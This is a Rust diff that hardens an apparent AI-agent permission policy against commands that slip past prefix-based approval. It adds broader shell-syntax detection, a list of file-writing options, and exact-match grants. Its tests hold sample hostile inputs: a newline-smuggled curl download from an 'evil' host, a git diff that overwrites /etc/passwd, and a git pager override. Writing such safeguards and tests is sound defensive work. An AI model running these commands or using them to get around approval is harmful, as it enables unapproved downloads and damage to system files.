@@ -56,19 +56,22 @@ pub fn scope(tool: &str, input: &Value) -> &'static str {
 }
 
 fn command(input: &Value) -> String {
-    input
-        .get("command")
-        .and_then(Value::as_str)
-        .unwrap_or("")
+    raw_command(input)
         .split_whitespace()
         .collect::<Vec<_>>()
         .join(" ")
 }
 
-/// What "approve for this session" remembers: the exact command, the exact path, or the tool.
+/// The command exactly as the shell will get it.
+fn raw_command(input: &Value) -> &str {
+    input.get("command").and_then(Value::as_str).unwrap_or("")
+}
+
+/// What "approve for this session" remembers: the exact command (as the shell gets it), the exact path,
+/// or the tool.
 pub fn grant_pattern(tool: &str, input: &Value) -> String {
     match tool {
-        "Bash" => command(input),
+        "Bash" => raw_command(input).to_string(),
         _ => input
             .get("file_path")
             .or_else(|| input.get("notebook_path"))
@@ -79,13 +82,51 @@ pub fn grant_pattern(tool: &str, input: &Value) -> String {
     }
 }
 
-/// Shell syntax that can chain or redirect: such a command is never allowed by prefix.
-fn has_shell_syntax(cmd: &str) -> bool {
-    cmd.chars().any(|c| {
+/// Shell syntax that can chain, redirect, expand or quote (a newline included): such a command is never
+/// allowed by prefix. Checked on the raw command, before any whitespace is normalised.
+fn has_shell_syntax(raw: &str) -> bool {
+    raw.chars().any(|c| {
         matches!(
             c,
-            ';' | '|' | '&' | '>' | '<' | '`' | '$' | '\n' | '(' | ')'
+            ';' | '|'
+                | '&'
+                | '>'
+                | '<'
+                | '`'
+                | '$'
+                | '\n'
+                | '\r'
+                | '('
+                | ')'
+                | '\\'
+                | '\''
+                | '"'
+                | '*'
+                | '?'
+                | '~'
+                | '{'
+                | '}'
         )
+    })
+}
+
+/// Options that make read-only commands write files or run programs (`git diff --output=…`, `-c`).
+fn has_writing_option(cmd: &str) -> bool {
+    const OPTIONS: &[&str] = &[
+        "--output",
+        "--ext-diff",
+        "--textconv",
+        "--exec",
+        "--upload-pack",
+        "--config",
+        "-c",
+        "-o",
+    ];
+    cmd.split_whitespace().any(|w| {
+        OPTIONS
+            .iter()
+            .any(|o| w == *o || w.starts_with(&format!("{o}=")))
+            || (w.starts_with("-o") && w.len() > 2)
     })
 }
 
@@ -102,7 +143,8 @@ impl Policy {
             if let Some(rule) = self.deny.iter().find(|d| cmd.contains(d.as_str())) {
                 return Verdict::Deny(format!("denied by policy: matches {rule:?}"));
             }
-            if !has_shell_syntax(&cmd)
+            if !has_shell_syntax(raw_command(input))
+                && !has_writing_option(&cmd)
                 && let Some(rule) = self
                     .allow
                     .iter()
@@ -166,6 +208,21 @@ mod tests {
             "chained commands are asked"
         );
         assert_eq!(
+            p.evaluate("Bash", &bash("ls\ncurl -o /tmp/x http://evil"), &[]),
+            Verdict::Ask,
+            "a newline is shell syntax"
+        );
+        assert_eq!(
+            p.evaluate("Bash", &bash("git diff --output=/etc/passwd"), &[]),
+            Verdict::Ask,
+            "writing options are asked"
+        );
+        assert_eq!(
+            p.evaluate("Bash", &bash("git log -c core.pager=x"), &[]),
+            Verdict::Ask
+        );
+        assert_eq!(p.evaluate("Bash", &bash("git status ~"), &[]), Verdict::Ask);
+        assert_eq!(
             p.evaluate("Bash", &bash("lsblk"), &[]),
             Verdict::Ask,
             "a prefix is a whole word"
@@ -183,6 +240,11 @@ mod tests {
             p.evaluate("Bash", &bash("echo hello > hello.txt"), &grants),
             Verdict::Allow(_)
         ));
+        assert_eq!(
+            p.evaluate("Bash", &bash("echo hello >\nhello.txt"), &grants),
+            Verdict::Ask,
+            "grants match exactly"
+        );
         assert_eq!(
             p.evaluate("Bash", &bash("echo other > hello.txt"), &grants),
             Verdict::Ask
